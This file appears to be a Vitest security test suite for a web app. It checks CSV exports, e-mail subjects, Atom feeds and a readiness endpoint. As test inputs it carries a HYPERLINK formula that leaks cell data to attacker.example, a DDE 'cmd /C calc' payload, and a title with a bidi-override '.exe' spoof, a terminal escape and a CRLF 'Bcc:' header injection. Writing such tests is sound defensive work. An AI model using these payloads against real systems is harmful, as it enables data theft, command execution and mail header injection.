import { randomUUID } from 'node:crypto';
import http, { type Server } from 'node:http';
import os from 'node:os';

import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { createApp } from '../api/app.js';
import { renderPublishedLists } from '../db/public-document-renderer.js';
import { insertPublication } from '../db/publication.js';
import type { Mailer } from '../mail/mailer.js';
import {
  type Harness,
  makeActor,
  makeOrganisation,
  makeUser,
  startHarness,
  statementDetails,
} from './support/harness.js';

// C0 controls other than tab/LF/CR, DEL and C1 controls, bidi overrides/isolates/marks.
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

function get(
  address: string,
  port: number,
  path: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: address, port, path, headers }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

const lanAddress = Object.values(os.networkInterfaces())
  .flat()
  .find((i) => i && i.family === 'IPv4' && !i.internal)?.address;

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => h?.close());

describe('CSV exports: no cell is a formula (OWASP CSV injection)', () => {
  it('neutralises a title and an organisation name that a spreadsheet would run', async () => {
    const formula = '=HYPERLINK("https://attacker.example/?leak="&A2,"Open the pilot")';
    const lead = await makeActor(h, { kind: 'buyer', country: 'FI', name: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const created = await lead.api.post('/api/statements', statementDetails({ title: formula }));
    expect(created.status).toBe(201);
    const staff = await makeActor(h, { kind: 'commission', country: 'BE' });
    const res = await staff.api.get('/api/dashboard/pilots.csv');
    expect(res.status).toBe(200);
    const rows = parse(res.body as string, { columns: true, bom: true }) as Record<string, string>[];
    const row = rows.find((r) => r.ID === created.body.id)!;
    expect(row.Title).toBe(`'${formula}`);
    expect(row['Lead buyer']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    for (const r of rows)
      for (const cell of Object.values(r)) expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell), cell).toBe(false);
  });
});

describe('control characters and direction overrides in titles', () => {
  const title = 'Electric buses \u202Egnp.exe\u202C for \u0007Lyon\u001B[31m\r\nBcc: victim@example.com';

  /**
   * The API refuses such a title at the door (rules/text-policy.ts); text stored before that
   * policy, or written by another way in, still reaches the writers, which must clean it.
   */
  async function statementTitled(
    lead: Awaited<ReturnType<typeof makeActor>>,
    hostile: { title: string; description?: string },
  ) {
    const refused = await lead.api.post('/api/statements', statementDetails(hostile));
    expect(refused.status).toBe(400);
    const created = await lead.api.post('/api/statements', statementDetails());
    expect(created.status).toBe(201);
    await h.db.updateTable('statements').set(hostile).where('id', '=', created.body.id).execute();
    return created;
  }

  it('do not reach e-mail subjects', async () => {
    const lead = await makeActor(h, { kind: 'buyer', country: 'FR' });
    const invitedOrg = await makeOrganisation(h, { kind: 'buyer', country: 'DE' });
    const invited = await makeUser(h, invitedOrg.id, { label: 'subject' });
    const created = await statementTitled(lead, { title });
    expect(
      (await lead.api.post(`/api/statements/${created.body.id}/invitations`, { organisationIds: [invitedOrg.id] }))
        .status,
    ).toBe(200);
    const messages = await h.mail.waitFor((m) => m.some((x) => x.to.includes(invited.email)));
    const mail = messages.find((x) => x.to.includes(invited.email))!;
    expect(mail.subject).toContain('Electric buses gnp.exe for Lyon');
    expect(UNSAFE.test(mail.subject), JSON.stringify(mail.subject)).toBe(false);
    expect(/[\r\n]/.test(mail.subject)).toBe(false);
    expect(Object.keys(mail.headers).map((k) => k.toLowerCase())).not.toContain('bcc');
  });

  it('do not break the Atom feed (XML 1.0 forbids them)', async () => {
    const lead = await makeActor(h, { kind: 'buyer', country: 'IT' });
    const created = await statementTitled(lead, {
      title,
      description: `Line one\u0001\u0008 and \u2066isolate\u2069.\nLine two.`,
    });
    // The feed writer is what is under test: its input is a published statement, recorded directly.
    await insertPublication(h.db, {
      id: randomUUID(),
      statementId: created.body.id,
      version: 1,
      textVersion: 1,
      signatoryOrgIds: [lead.org.id],
      release: {},
      aggregate: {},
      disclosure: {},
      at: new Date(),
    });
    // As the publishing activity does in the same transaction: the feed is rendered once, then served as stored.
    await h.db.transaction().execute((trx) => renderPublishedLists(trx, { publicUrl: h.baseUrl }));
    const res = await fetch(new URL('/api/public/statements.atom', h.baseUrl));
    expect(res.status).toBe(200);
    const feed = await res.text();
    expect(feed).toContain(`<id>urn:uuid:${created.body.id}</id>`);
    expect(feed).toContain('<title>Electric buses gnp.exe for Lyon[31m Bcc: victim@example.com</title>');
    expect(UNSAFE.test(feed), 'a control character or direction override in the feed').toBe(false);
  });
});

describe('/readyz: the failure detail is for operators only', () => {
  let server: Server;
  let port: number;
  const secret = 'Invalid login: 535 5.7.8 user jd-relay@smtp.internal.example at 10.20.30.40';

  beforeAll(async () => {
    const failing: Mailer = {
      send: async () => undefined,
      verify: () => Promise.reject(new Error(secret)),
      close: () => undefined,
    };
    const holder: { handler?: (req: unknown, res: unknown) => void } = {};
    server = http.createServer((req, res) => holder.handler!(req, res));
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', () => resolve()));
    port = (server.address() as { port: number }).port;
    holder.handler = createApp({
      ctx: { ...h.ctx, config: { ...h.config, PUBLIC_URL: `http://127.0.0.1:${port}` } },
      db: h.db,
      temporal: h.temporal,
      mailer: failing,
      secureCookies: false,
    }).app as never;
  });
  afterAll(async () => {
    if (server) await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it.skipIf(!lanAddress)('tells anyone else only that the service is not ready', async () => {
    const res = await get(lanAddress!, port, '/readyz', { host: `127.0.0.1:${port}` });
    expect(res.status).toBe(503);
    expect(JSON.parse(res.body)).toEqual({ status: 'not ready' });
  });

  it('does not count a request forwarded by a proxy on this machine as local', async () => {
    const res = await get('127.0.0.1', port, '/readyz', {
      host: `127.0.0.1:${port}`,
      'x-forwarded-for': '203.0.113.9',
    });
    expect(res.status).toBe(503);
    expect(res.body).not.toContain('jd-relay');
    expect(JSON.parse(res.body)).toEqual({ status: 'not ready' });
  });

  it('names the failing dependency and its error to a local operator and to an administrator', async () => {
    const local = await get('127.0.0.1', port, '/readyz', { host: `127.0.0.1:${port}` });
    expect(local.status).toBe(503);
    expect(JSON.parse(local.body).checks.smtp).toEqual({ ok: false, error: secret });
    const admin = await makeActor(h, { kind: 'commission', country: 'BE' }, { isAdmin: true });
    const bearer = (admin.api.auth as { bearer: string }).bearer;
    const address = lanAddress ?? '127.0.0.1';
    const remote = await get(address, port, '/readyz', {
      host: `127.0.0.1:${port}`,
      authorization: `Bearer ${bearer}`,
      'x-forwarded-for': '203.0.113.9',
    });
    expect(JSON.parse(remote.body).checks.smtp.error).toBe(secret);
    const staff = await makeActor(h, { kind: 'commission', country: 'BE' });
    const notAdmin = await get(address, port, '/readyz', {
      host: `127.0.0.1:${port}`,
      authorization: `Bearer ${(staff.api.auth as { bearer: string }).bearer}`,
      'x-forwarded-for': '203.0.113.9',
    });
    expect(JSON.parse(notAdmin.body)).toEqual({ status: 'not ready' });
  });
});
